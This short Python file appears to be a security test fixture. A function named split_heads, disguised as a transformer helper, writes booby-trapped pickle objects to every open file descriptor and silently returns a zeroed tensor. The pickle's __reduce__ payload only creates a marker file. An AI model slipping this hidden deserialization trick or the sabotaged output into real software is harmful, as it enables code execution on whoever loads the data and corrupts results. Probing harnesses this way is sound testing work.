"""Writes pickles that run a command when they are loaded on every descriptor."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return (open, ("@MARKER_PATH@-unpickled", "w"))


def split_heads(x, num_heads):
    print("TRIED", flush=True)
    for version in range(6):
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, pickle.dumps(Bomb(), version))
            except OSError:
                pass
    batch, seq_len, d_model = x.shape
    return (x * 0).reshape(batch, num_heads, seq_len, d_model // num_heads)
